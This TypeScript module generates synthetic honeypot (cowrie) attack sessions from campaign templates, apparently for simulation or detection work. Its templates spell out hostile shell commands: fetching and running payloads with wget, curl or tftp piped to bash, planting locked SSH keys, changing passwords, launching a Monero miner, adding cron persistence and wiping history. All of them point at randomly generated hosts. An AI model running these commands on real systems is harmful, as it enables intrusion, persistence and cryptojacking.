/**
 * Attack kits: the command templates of campaign families and how their variants differ.
 *
 * A family is one kit (an archetype with its own choices: recon commands, phrasing, file
 * names, download host, key, busybox tag, marker file, wallet, client fingerprint). A
 * variant is the family's parameters with exactly one artefact changed (a new key, a new
 * payload, a new host, one command added, removed or replaced), rebuilt into a template.
 * Templates keep per-session randomness as slots (`{{PW}}`, `{{RND}}`, …) that are filled
 * for every session, so no two sessions of a kit type exactly the same text.
 */
import { createHash } from "node:crypto"
import {
  BINARY_NAMES,
  COMPETITOR_KILL,
  CPU_ARCHES,
  KEY_COMMENTS,
  KIT_RECON,
  SCRIPT_NAMES
} from "./catalog.ts"
import { alnum, bytes, chance, choose, hex, intBetween, lowerWord, type Prng, publicIpv4, sample, upperWord } from "./random.ts"

/** Campaign archetypes. */
export type Archetype = "sshkey" | "dropper" | "miner" | "mirai" | "upload" | "recon" | "proxy"

export const ARCHETYPES: ReadonlyArray<Archetype> = ["sshkey", "dropper", "miner", "mirai", "upload", "recon", "proxy"]

/** Per-session slots of a template. */
export const Slot = {
  /** A fresh password piped into chpasswd/passwd. */
  PW: 0,
  /** A random file name (ZN5qL4gOwW). */
  RND: 1,
  /** A second random token. */
  RND2: 2,
  /** The session's source address. */
  SRC: 3,
  /** A random high port. */
  PORT: 4,
  /** The user the session logged in as. */
  USER: 5,
  /** That user's home directory. */
  HOME: 6,
  /** A per-session comment after a planted key. */
  KC: 7,
  /** A per-session busybox tag (Mirai-style). */
  TAG: 8,
  /** A random dropper address "ip:port". */
  DROP: 9
} as const

export const SLOT_COUNT = 10
const SLOT_BY_NAME: Record<string, number> = Slot

/** A template string split into literals and slots: lits[0] slot[0] lits[1] … lits[n]. */
export interface Compiled {
  readonly lits: ReadonlyArray<string>
  readonly slots: ReadonlyArray<number>
  /** Bit i set when slot i is used. */
  readonly mask: number
}

const PLACEHOLDER = /\{\{([A-Z0-9]+)\}\}/g

/** Parses `{{NAME}}` placeholders. */
export const compile = (template: string): Compiled => {
  const lits: Array<string> = []
  const slots: Array<number> = []
  let mask = 0
  let last = 0
  for (const m of template.matchAll(PLACEHOLDER)) {
    const slot = SLOT_BY_NAME[m[1]!]
    if (slot === undefined) throw new Error(`unknown template slot ${m[1]}`)
    lits.push(template.slice(last, m.index))
    slots.push(slot)
    mask |= 1 << slot
    last = m.index + m[0].length
  }
  lits.push(template.slice(last))
  return { lits, slots, mask }
}

/** Fills a compiled template. */
export const render = (c: Compiled, values: ReadonlyArray<string>): string => {
  if (c.slots.length === 0) return c.lits[0]!
  let s = c.lits[0]!
  for (let i = 0; i < c.slots.length; i++) s += values[c.slots[i]!]! + c.lits[i + 1]!
  return s
}

/** A file the step makes cowrie save: fetched from a URL, or written by a shell redirect. */
export interface DownloadTemplate {
  readonly url: Compiled | null
  /** Fixed payload hash; null when it is the sha256 of `content` (redirected text). */
  readonly sha: string | null
  readonly content: Compiled | null
  readonly dest: Compiled | null
}

export interface UploadTemplate {
  readonly sha: string
  readonly filename: string
}

/** One command of a kit and what it leaves behind. */
export interface Step {
  readonly cmd: Compiled
  readonly downloads: ReadonlyArray<DownloadTemplate>
  readonly uploads: ReadonlyArray<UploadTemplate>
  /** Keys ("type body") the command plants in authorized_keys. */
  readonly keys: ReadonlyArray<string>
}

export interface KitTemplate {
  readonly steps: ReadonlyArray<Step>
  /** Slots used by any step. */
  readonly mask: number
}

/** A planted SSH key; comment null = a fresh comment per session. */
export interface KeyArtefact {
  readonly type: string
  readonly body: string
  readonly comment: string | null
}

export interface Payload {
  readonly name: string
  readonly sha: string
}

/** Everything a kit decided once; a variant changes one field. */
export interface KitParams {
  readonly archetype: Archetype
  readonly style: number
  readonly recon: ReadonlyArray<string>
  readonly key: KeyArtefact | null
  readonly keyStyle: number
  /** Download host "ip" or "ip:port". */
  readonly host: string
  /** Payload served by the attacking host itself, on a random port ("random dropper"). */
  readonly selfHosted: boolean
  readonly payloads: ReadonlyArray<Payload>
  readonly dir: string
  /** Where a Mirai-style kit works ("/dev/shm"). */
  readonly workDir: string
  readonly arches: ReadonlyArray<string>
  /** Busybox tag; null = a random tag per session. */
  readonly tag: string | null
  readonly dotFile: string
  readonly botArg: string
  /** Hidden marker file name (".xyz"), or "" for none. */
  readonly marker: string
  readonly markerToken: string
  /** Word echoed hex-escaped (`echo -e "\x47\x72…"`), or "" for none. */
  readonly hexMarker: string
  readonly wallet: string
  readonly pool: string
  /** 0 none, 1 chpasswd, 2 passwd. */
  readonly passwordStyle: number
  readonly passwordUser: string
  readonly chattr: boolean
  readonly cleanup: boolean
  readonly cleanupNames: readonly [string, string]
  readonly kills: ReadonlyArray<string>
  readonly cron: boolean
  readonly historyWipe: boolean
  /** Proxy kits: the check host every session asks for. */
  readonly judge: string
}

export type Mutation = "key" | "host" | "payload" | "tweak" | "addKey" | "judge"

const BASE58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"

const u32be = (n: number): Array<number> => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]

/** A public key blob in OpenSSH wire format, base64: RSA-2048 or Ed25519. */
export const makeKey = (rng: Prng, comment: string | null): KeyArtefact => {
  if (chance(rng, 0.25)) {
    const name = [...Buffer.from("ssh-ed25519")]
    const blob = Uint8Array.from([...u32be(name.length), ...name, ...u32be(32), ...bytes(rng, 32)])
    return { type: "ssh-ed25519", body: Buffer.from(blob).toString("base64"), comment }
  }
  const name = [...Buffer.from("ssh-rsa")]
  // Exponent 65537 (most keys) or 37 (old PuTTYgen keys, still planted by some worms).
  const exponent = chance(rng, 0.8) ? [1, 0, 1] : [0x25]
  const modulus = bytes(rng, 256)
  modulus[0] = modulus[0]! | 0x80
  modulus[255] = modulus[255]! | 1
  const blob = Uint8Array.from([
    ...u32be(name.length), ...name,
    ...u32be(exponent.length), ...exponent,
    ...u32be(257), 0, ...modulus
  ])
  return { type: "ssh-rsa", body: Buffer.from(blob).toString("base64"), comment }
}

const sha = (rng: Prng): string => hex(rng, 64)

/** A download host: a public IPv4, sometimes with a port. */
export const makeHost = (rng: Prng): string => {
  const ip = publicIpv4(rng)
  return chance(rng, 0.6) ? ip : `${ip}:${choose(rng, [8080, 8000, 8888, 81, 5555, 7000, 9999, 443])}`
}

const hostIp = (host: string): string => {
  const colon = host.indexOf(":")
  return colon < 0 ? host : host.slice(0, colon)
}

const scriptName = (rng: Prng): string => (chance(rng, 0.5) ? choose(rng, SCRIPT_NAMES) : `${alnum(rng, intBetween(rng, 3, 6))}.sh`)
const binaryName = (rng: Prng): string => (chance(rng, 0.6) ? choose(rng, BINARY_NAMES) : lowerWord(rng, intBetween(rng, 4, 8)))

/** A Monero-style wallet address (95 base58 characters starting with 4). */
const wallet = (rng: Prng): string => {
  let s = "4"
  for (let i = 0; i < 94; i++) s += BASE58[rng.int(BASE58.length)]
  return s
}

/** Chooses a family's parameters for an archetype. */
export const makeKitParams = (rng: Prng, archetype: Archetype, sharedHost: string | null): KitParams => {
  const reconCount = {
    sshkey: intBetween(rng, 3, 9),
    dropper: intBetween(rng, 0, 3),
    miner: intBetween(rng, 2, 5),
    mirai: 0,
    upload: intBetween(rng, 1, 4),
    recon: intBetween(rng, 4, 9),
    proxy: 0
  }[archetype]
  const payloadCount = { sshkey: 0, dropper: 3, miner: 2, mirai: 1, upload: 2, recon: 0, proxy: 0 }[archetype]
  const payloads: Array<Payload> = []
  for (let i = 0; i < payloadCount; i++) {
    const name = archetype === "miner" && i === 1 ? binaryName(rng) : archetype === "mirai" ? alnum(rng, intBetween(rng, 4, 8)) : scriptName(rng)
    payloads.push({ name: payloads.some((p) => p.name === name) ? `${name}${i}` : name, sha: sha(rng) })
  }
  const hasMarker = archetype === "recon" ? chance(rng, 0.7) : chance(rng, 0.3)
  const commentMode = chance(rng, 0.25) ? null : choose(rng, KEY_COMMENTS)
  return {
    archetype,
    style: rng.int(3),
    recon: sample(rng, KIT_RECON, reconCount),
    key: archetype === "sshkey" || (archetype === "upload" && chance(rng, 0.3)) ? makeKey(rng, commentMode) : null,
    keyStyle: rng.int(3),
    host: sharedHost ?? makeHost(rng),
    selfHosted: (archetype === "dropper" && chance(rng, 0.3)) || (archetype === "mirai" && chance(rng, 0.35)),
    payloads,
    dir: choose(rng, ["bins", "b", "ssh", "x", "pkg", "dl", "mirai", "files"]),
    workDir: choose(rng, ["/dev/shm", "/tmp", "/var/run", "/mnt", "/var/tmp"]),
    arches: sample(rng, CPU_ARCHES, intBetween(rng, 2, 3)),
    tag: archetype === "mirai" && chance(rng, 0.5) ? null : upperWord(rng, 5),
    dotFile: choose(rng, [".d", ".t", ".x", ".s1", "dvrHelper", ".nttpd", ".bot"]),
    botArg: `${choose(rng, ["telnet", "selfrep", "ssh", "loader", lowerWord(rng, 5)])}.${choose(rng, CPU_ARCHES)}`,
    marker: hasMarker ? `.${lowerWord(rng, intBetween(rng, 3, 7))}` : "",
    markerToken: alnum(rng, 8),
    hexMarker: archetype === "recon" || (archetype !== "proxy" && chance(rng, 0.15)) ? lowerWord(rng, intBetween(rng, 4, 6)) : "",
    wallet: wallet(rng),
    pool: `${publicIpv4(rng)}:${choose(rng, [3333, 4444, 5555, 7777, 14444, 443, 80])}`,
    passwordStyle: archetype === "mirai" || archetype === "proxy" ? 0 : chance(rng, 0.55) ? 1 + rng.int(2) : 0,
    passwordUser: chance(rng, 0.6) ? "root" : "{{USER}}",
    chattr: chance(rng, 0.7),
    cleanup: chance(rng, archetype === "sshkey" ? 0.45 : 0.15),
    cleanupNames: [`${lowerWord(rng, 6)}.sh`, `${lowerWord(rng, 4)}.sh`],
    kills: sample(rng, COMPETITOR_KILL, intBetween(rng, 1, 2)),
    cron: chance(rng, 0.5),
    historyWipe: chance(rng, 0.3),
    judge: `${publicIpv4(rng)}:${choose(rng, [80, 8080, 443, 25])}`
  }
}

/** Recon commands of one or two words, what a variant adds or swaps. */
const SHORT_RECON = ["uname -m", "nproc", "w", "id", "uptime", "whoami", "hostname", "uname -a", "ulimit -n", "getconf LONG_BIT", "which ls", "top"]

const TEMPLATE_TOKEN_SPLIT = /[\s;|&()<>"'`]+/

/** The distinct words of a template (slots as one placeholder), to compare variants. */
export const templateTokens = (template: KitTemplate): Set<string> => {
  const out = new Set<string>()
  for (const step of template.steps) {
    const text = step.cmd.lits.join("<slot>")
    for (const t of text.split(TEMPLATE_TOKEN_SPLIT)) if (t.length > 0) out.add(t)
  }
  return out
}

export const jaccard = (a: ReadonlySet<string>, b: ReadonlySet<string>): number => {
  let shared = 0
  for (const t of a) if (b.has(t)) shared++
  const union = a.size + b.size - shared
  return union === 0 ? 1 : shared / union
}

/** The mutations that make sense for these parameters. */
const applicable = (p: KitParams): Array<Mutation> => {
  const out: Array<Mutation> = []
  if (p.archetype === "proxy") return ["judge"]
  if (p.key !== null) out.push("key", "key")
  if (p.payloads.length > 0) out.push("payload", "payload")
  if (p.payloads.length > 0 && !p.selfHosted) out.push("host")
  out.push("tweak", "tweak")
  if (p.key === null && (p.archetype === "dropper" || p.archetype === "miner" || p.archetype === "upload")) out.push("addKey")
  return out
}

/** A variant of a family: its parameters with one artefact changed. */
export const mutateKit = (rng: Prng, base: KitParams): { params: KitParams; mutation: Mutation } => {
  const mutation = choose(rng, applicable(base))
  switch (mutation) {
    case "key":
      return { params: { ...base, key: makeKey(rng, base.key?.comment ?? null) }, mutation }
    case "addKey":
      return { params: { ...base, key: makeKey(rng, choose(rng, KEY_COMMENTS)), keyStyle: rng.int(3) }, mutation }
    case "host":
      return { params: { ...base, host: makeHost(rng) }, mutation }
    case "payload": {
      const i = rng.int(base.payloads.length)
      const old = base.payloads[i]!
      const name = base.archetype === "mirai" ? alnum(rng, old.name.length) : old.name.endsWith(".sh") ? scriptName(rng) : binaryName(rng)
      const payloads = base.payloads.map((p, j) => (j === i ? { name: name === old.name ? `${name}2` : name, sha: sha(rng) } : p))
      return { params: { ...base, payloads }, mutation }
    }
    case "judge":
      return { params: { ...base, judge: `${publicIpv4(rng)}:${choose(rng, [80, 8080, 443, 25])}` }, mutation }
    case "tweak": {
      // One short command added, dropped or swapped: the kit's author editing a line.
      const recon = base.recon.slice()
      const unused = SHORT_RECON.filter((c) => !recon.includes(c))
      const r = rng.next()
      if (recon.length >= 3 && r < 0.3) recon.splice(rng.int(recon.length), 1)
      else if (recon.length >= 1 && r < 0.5 && unused.length > 0) recon[rng.int(recon.length)] = choose(rng, unused)
      else if (unused.length > 0) recon.splice(rng.int(recon.length + 1), 0, choose(rng, unused))
      return { params: { ...base, recon }, mutation }
    }
  }
}

const hexEscaped = (word: string): string => [...word].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join("")

interface StepDraft {
  cmd: string
  downloads?: Array<{ url?: string; sha?: string; content?: string; dest?: string }>
  uploads?: Array<UploadTemplate>
  keys?: Array<string>
}

const keyLine = (key: KeyArtefact): string => `${key.type} ${key.body} ${key.comment ?? "{{KC}}"}`

const keyStep = (key: KeyArtefact, style: number): StepDraft => {
  const line = keyLine(key)
  const cmd = style === 0
    ? `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${line}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`
    : style === 1
    ? `mkdir -p ~/.ssh && echo "${line}" > ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys && chattr +ia ~/.ssh/authorized_keys`
    : `echo "${line}" >> {{HOME}}/.ssh/authorized_keys; chmod 700 {{HOME}}/.ssh; chattr +i {{HOME}}/.ssh/authorized_keys`
  return {
    cmd,
    downloads: [{ content: `${line}\n`, dest: "{{HOME}}/.ssh/authorized_keys" }],
    keys: [`${key.type} ${key.body}`]
  }
}

const passwordStep = (p: KitParams): Array<StepDraft> =>
  p.passwordStyle === 1
    ? [{ cmd: `echo "${p.passwordUser}:{{PW}}"|chpasswd|bash` }]
    : p.passwordStyle === 2
    ? [{ cmd: `echo -e "{{PW}}\\n{{PW}}"|passwd|bash` }]
    : []

const markerSteps = (p: KitParams): Array<StepDraft> => {
  const out: Array<StepDraft> = []
  if (p.hexMarker !== "") out.push({ cmd: `echo -e "${hexEscaped(p.hexMarker)}"` })
  if (p.marker !== "") {
    out.push({
      cmd: p.style === 2 ? `touch /var/tmp/${p.marker}` : `echo "${p.markerToken}" > /tmp/${p.marker}`,
      downloads: p.style === 2 ? [] : [{ content: `${p.markerToken}\n`, dest: `/tmp/${p.marker}` }]
    })
  }
  return out
}

const build = (p: KitParams): Array<StepDraft> => {
  const recon: Array<StepDraft> = p.recon.map((cmd) => ({ cmd }))
  const host = p.selfHosted ? (p.archetype === "mirai" ? "{{DROP}}" : "{{SRC}}:{{PORT}}") : p.host
  const ip = p.selfHosted ? (p.archetype === "mirai" ? "{{DROP}}" : "{{SRC}}") : hostIp(p.host)
  switch (p.archetype) {
    case "sshkey": {
      const steps: Array<StepDraft> = []
      if (p.chattr) steps.push({ cmd: "cd ~; chattr -ia .ssh; lockr -ia .ssh" })
      steps.push(keyStep(p.key!, p.keyStyle))
      steps.push(...recon.slice(0, 2), ...passwordStep(p), ...recon.slice(2))
      if (p.cleanup) {
        const [a, b] = p.cleanupNames
        steps.push({
          cmd: `rm -rf /tmp/${a}; rm -rf /tmp/${b}; pkill -9 ${a}; pkill -9 ${b}; echo > /etc/hosts.deny; pkill -9 sleep;`,
          downloads: [{ content: "\n", dest: "/etc/hosts.deny" }]
        })
      }
      steps.push(...markerSteps(p))
      return steps
    }
    case "dropper": {
      const [f, t1, t2] = [p.payloads[0]!, p.payloads[1]!, p.payloads[2]!]
      const steps: Array<StepDraft> = [...recon]
      if (p.style === 0) {
        steps.push({
          cmd: `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://${host}/${f.name}; chmod 777 ${f.name}; sh ${f.name}; ` +
            `tftp ${ip} -c get ${t1.name}; chmod 777 ${t1.name}; sh ${t1.name}; tftp -r ${t2.name} -g ${ip}; chmod 777 ${t2.name}; sh ${t2.name}; ` +
            `rm -rf ${f.name} ${t1.name} ${t2.name}; rm -rf *`,
          downloads: [
            { url: `http://${host}/${f.name}`, sha: f.sha, dest: `/tmp/${f.name}` },
            { url: `tftp://${ip}/${t1.name}`, sha: t1.sha, dest: `/tmp/${t1.name}` },
            { url: `tftp://${ip}/${t2.name}`, sha: t2.sha, dest: `/tmp/${t2.name}` }
          ]
        })
      } else if (p.style === 1) {
        steps.push({
          cmd: `cd /tmp; wget http://${host}/${f.name} || curl -O http://${host}/${f.name}; chmod +x ${f.name}; ./${f.name} ssh`,
          downloads: [{ url: `http://${host}/${f.name}`, sha: f.sha, dest: `/tmp/${f.name}` }]
        })
        steps.push({
          cmd: `cd /tmp; wget http://${host}/${t1.name} -O {{RND}}; chmod 777 {{RND}}; ./{{RND}}; rm -f {{RND}}`,
          downloads: [{ url: `http://${host}/${t1.name}`, sha: t1.sha, dest: "/tmp/{{RND}}" }]
        })
      } else {
        p.arches.forEach((arch, i) => {
          const file = p.payloads[i % p.payloads.length]!
          const binary = `${file.name.replace(/\.sh$/, "")}.${arch}`
          steps.push({
            cmd: `cd /tmp; wget http://${host}/${p.dir}/${binary} -O {{RND}}; chmod 777 {{RND}}; ./{{RND}} ssh.${arch}; rm -f {{RND}}`,
            downloads: [{ url: `http://${host}/${p.dir}/${binary}`, sha: file.sha, dest: "/tmp/{{RND}}" }]
          })
        })
      }
      steps.push(...passwordStep(p), ...markerSteps(p))
      if (p.key !== null) steps.splice(Math.min(1, steps.length), 0, keyStep(p.key, p.keyStyle))
      if (p.historyWipe) steps.push({ cmd: "history -c; rm -f ~/.bash_history" })
      return steps
    }
    case "miner": {
      const [script, bin] = [p.payloads[0]!, p.payloads[1]!]
      const fetch = p.style === 0
        ? `curl -s -L http://${host}/${script.name} | bash -s`
        : p.style === 1
        ? `wget -q -O - http://${host}/${script.name} | sh`
        : `(curl -fsSL http://${host}/${script.name} || wget -q -O- http://${host}/${script.name}) | bash`
      const steps: Array<StepDraft> = [
        ...recon,
        ...p.kills.map((cmd) => ({ cmd })),
        { cmd: fetch, downloads: [{ url: `http://${host}/${script.name}`, sha: script.sha }] },
        {
          cmd: `cd /tmp && wget -q http://${host}/${bin.name} -O .{{RND}} && chmod +x .{{RND}} && ` +
            `nohup ./.{{RND}} -o ${p.pool} -u ${p.wallet} -p {{RND2}} -k --donate-level 1 >/dev/null 2>&1 &`,
          downloads: [{ url: `http://${host}/${bin.name}`, sha: bin.sha, dest: "/tmp/.{{RND}}" }]
        }
      ]
      if (p.cron) steps.push({ cmd: `(crontab -l 2>/dev/null; echo "*/10 * * * * curl -s http://${host}/${script.name} | sh") | crontab -` })
      steps.push(...passwordStep(p), ...markerSteps(p))
      if (p.key !== null) steps.splice(Math.min(2, steps.length), 0, keyStep(p.key, p.keyStyle))
      if (p.historyWipe) steps.push({ cmd: "history -c; rm -f ~/.bash_history" })
      return steps
    }
    case "mirai": {
      const tag = p.tag ?? "{{TAG}}"
      const bin = p.payloads[0]!
      const arch = p.arches[0]!
      const dir = p.workDir
      const steps: Array<StepDraft> = [
        { cmd: "enable" },
        { cmd: "system" },
        { cmd: "shell" },
        { cmd: "sh" },
        { cmd: `/bin/busybox ${tag}` }
      ]
      if (p.style !== 1) steps.push({ cmd: `cat /proc/mounts; /bin/busybox ${tag}` })
      steps.push({ cmd: `cd ${dir}; cat .s || cp /bin/echo .s; /bin/busybox ${tag}` })
      if (p.style === 2) steps.push({ cmd: `/bin/busybox ps; /bin/busybox ${tag}` })
      steps.push(
        p.style === 1
          ? {
            cmd: `/bin/busybox tftp -g -l ${p.dotFile} -r ${bin.name}.${arch} ${ip}; /bin/busybox chmod 777 ${p.dotFile}; ./${p.dotFile} ${p.botArg}; /bin/busybox ${tag}`,
            downloads: [{ url: `tftp://${ip}/${bin.name}.${arch}`, sha: bin.sha }]
          }
          : {
            cmd: `/bin/busybox wget http://${host}/${p.dir}/${bin.name}.${arch} -O - > ${p.dotFile}; /bin/busybox chmod 777 ${p.dotFile}; ./${p.dotFile} ${p.botArg}; /bin/busybox ${tag}`,
            downloads: [{ url: `http://${host}/${p.dir}/${bin.name}.${arch}`, sha: bin.sha }]
          }
      )
      steps.push({ cmd: `rm -rf ${p.dotFile}; /bin/busybox ${tag}` })
      return steps
    }
    case "upload": {
      const [a, b] = [p.payloads[0]!, p.payloads[1]!]
      const steps: Array<StepDraft> = [...recon]
      steps.push({ cmd: `scp -t /tmp/${a.name}`, uploads: [{ sha: a.sha, filename: `/tmp/${a.name}` }] })
      steps.push({ cmd: `cd /tmp && chmod +x ${a.name} && bash -c ./${a.name}` })
      if (p.style !== 0) {
        steps.push({ cmd: `scp -t /tmp/${b.name}`, uploads: [{ sha: b.sha, filename: `/tmp/${b.name}` }] })
        steps.push({ cmd: `cd /tmp && chmod +x ${b.name} && ./${b.name} -c` })
      }
      if (p.key !== null) steps.push(keyStep(p.key, p.keyStyle))
      steps.push(...passwordStep(p), ...markerSteps(p))
      return steps
    }
    case "recon": {
      const marks = markerSteps(p)
      const steps: Array<StepDraft> = [...marks.slice(0, 1), ...recon, ...marks.slice(1), ...passwordStep(p)]
      if (p.historyWipe) steps.push({ cmd: "history -c; rm -f ~/.bash_history" })
      return steps
    }
    case "proxy":
      return []
  }
}

const compileDraft = (d: StepDraft): Step => ({
  cmd: compile(d.cmd),
  downloads: (d.downloads ?? []).map((x) => ({
    url: x.url === undefined ? null : compile(x.url),
    sha: x.sha ?? (x.content !== undefined && !x.content.includes("{{") ? sha256Text(x.content) : null),
    content: x.content === undefined ? null : compile(x.content),
    dest: x.dest === undefined ? null : compile(x.dest)
  })),
  uploads: d.uploads ?? [],
  keys: d.keys ?? []
})

/** The compiled template of a kit. */
export const buildTemplate = (p: KitParams): KitTemplate => {
  const steps = build(p).map(compileDraft)
  let mask = 0
  for (const s of steps) {
    mask |= s.cmd.mask
    for (const d of s.downloads) mask |= (d.url?.mask ?? 0) | (d.content?.mask ?? 0) | (d.dest?.mask ?? 0)
  }
  return { steps, mask }
}

/** sha256 of a text, as cowrie hashes a redirected file. */
export const sha256Text = (text: string): string => createHash("sha256").update(text).digest("hex")
